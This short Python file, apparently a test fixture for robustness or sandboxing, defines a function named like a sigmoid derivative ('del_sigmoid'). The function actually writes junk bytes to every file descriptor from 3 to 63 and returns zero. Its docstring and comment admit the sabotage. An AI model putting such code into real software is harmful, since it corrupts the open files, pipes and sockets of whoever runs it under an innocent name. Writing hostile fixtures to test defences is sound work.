"""Writes nonsense on every descriptor."""
# ruff: noqa - it does what no code should

import os


def del_sigmoid(h):
    for number in range(3, 64):
        try:
            os.write(number, b"right! " * 1000)
        except OSError:
            pass
    return 0 * h
